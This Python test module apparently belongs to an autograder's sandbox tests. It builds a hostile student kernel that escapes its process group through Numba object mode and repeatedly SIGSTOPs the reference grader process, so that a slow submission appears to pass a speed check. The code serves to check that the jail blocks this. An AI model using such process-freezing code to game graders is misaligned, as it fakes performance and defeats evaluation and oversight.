"""Hole 4, the part a jail decides: a slow kernel that slows the reference down instead.

The student's ``tensor_matmul`` is correct but about twenty times slower than the
reference. Once, through Numba's object mode (Python inside the compiled kernel; the
fence's module has ``importlib``), it starts a process in a session of its own that,
for a minute at most, keeps stopping (SIGSTOP) and continuing the reference's child — the
process running ``_grader_child.py`` with the kit as its working directory — so that the
reference looks slow while it is timed. Without a jail that process escapes the child's
process group and is not frozen while the reference runs; in a jail it cannot see the
reference at all. Its honest score is the correctness check's share of 3.2: the speed
check must fail.

The other ways to game the speed checks (remembering answers, skipping repeated calls)
are properties of the measurement, tested in `tests/grader/test_grader_speed_gaming.py`.
"""

from __future__ import annotations

from .attack import Attack, Target

# Signals only processes of this test's kit (cwd = T["kit"]) that run a grader child.
_FREEZER = [
    "import os, signal, sys, time",
    "kit = sys.argv[1]",
    "def reference():",
    "    found = []",
    "    for pid in filter(str.isdigit, os.listdir('/proc')):",
    "        try:",
    "            if os.readlink(f'/proc/{pid}/cwd') == kit and b'_grader_child.py' in open(f'/proc/{pid}/cmdline', 'rb').read():",
    "                found.append(int(pid))",
    "        except OSError:",
    "            pass",
    "    return found",
    "end = time.monotonic() + 60",
    "while time.monotonic() < end:",
    "    pids = reference()",
    "    for sig in (signal.SIGSTOP, signal.SIGCONT):",
    "        for pid in pids:",
    "            try:",
    "                os.kill(pid, sig)",
    "            except OSError:",
    "                pass",
    "        time.sleep(0.2 if sig == signal.SIGSTOP else 0.01)",
]


def slow_freezing_matmul(target: Target) -> str:
    """A correct kernel computing every dot product 20 times, serially; it starts the
    freezer once (the target's paths are spelled out: the body is compiled by Numba)."""
    return f"""
with numba.objmode():
    if "_hostile_freezer" not in np.__dict__:
        sp = importlib.import_module("subprocess")
        code = {chr(10).join(_FREEZER)!r}
        argv = [importlib.import_module("sys").executable, "-S", "-c", code, {target.kit!r}, {target.marker!r}]
        np.__dict__["_hostile_freezer"] = sp.Popen(argv, start_new_session=True, stdin=sp.DEVNULL, stdout=sp.DEVNULL, stderr=sp.DEVNULL)
for n in range(out_shape[0]):
    for i in range(out_shape[1]):
        for j in range(out_shape[2]):
            acc = 0.0
            for repeat in range(20):
                acc = 0.0
                for k in range(a_shape[2]):
                    acc += a_storage[n * a_batch_stride + i * a_strides[1] + k * a_strides[2]] * b_storage[n * b_batch_stride + k * b_strides[1] + j * b_strides[2]]
            out[n * out_strides[0] + i * out_strides[1] + j * out_strides[2]] = acc
"""


ATTACKS = [
    Attack(
        "freeze_the_reference",
        "4 speed",
        "a slow matmul whose escaped process keeps stopping the reference's child while it is timed",
        "a3",
        {("3.2", "tensor_matmul"): slow_freezing_matmul},
        task="3.2",
        earns=("fast_matmul", "fast_matmul_race_free"),
        cli_args=("--timeout", "60"),
        slow=True,
    ),
]
